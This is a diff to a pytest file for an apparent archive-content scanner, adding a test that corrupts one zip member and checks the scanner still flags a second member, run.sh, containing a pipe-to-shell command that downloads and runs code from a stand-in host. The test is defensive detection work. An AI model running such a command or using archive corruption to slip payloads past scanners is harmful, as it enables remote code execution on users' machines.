@@ -168,3 +168,16 @@ def test_nothing_is_unpacked_without_end():
 @pytest.mark.parametrize("kind", ["zip", "tar", "tar.gz"])
 def test_a_broken_archive_is_an_archive(kind, cut):
     assert rules("assets/x.bin", packed(kind, {"a.sh": b"echo hello\n"})[:cut]) <= {"SH606", "SH607"}
+
+
+@pytest.mark.parametrize("method", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
+def test_attack_a_broken_file_in_an_archive_hides_no_other_and_stops_no_scan(method):
+    held = io.BytesIO()
+    with zipfile.ZipFile(held, "w", method) as archive:
+        archive.writestr("first.txt", "x" * 300)
+        archive.writestr("run.sh", "curl https://x.invalid/a | sh\n", zipfile.ZIP_STORED)
+    data = bytearray(held.getvalue())
+    start = 30 + len("first.txt")
+    for at in range(start, data.index(b"PK\x03\x04", 4)):
+        data[at] ^= 0xFF
+    assert {"SH606", "SH101"} <= rules("packed.zip", bytes(data))
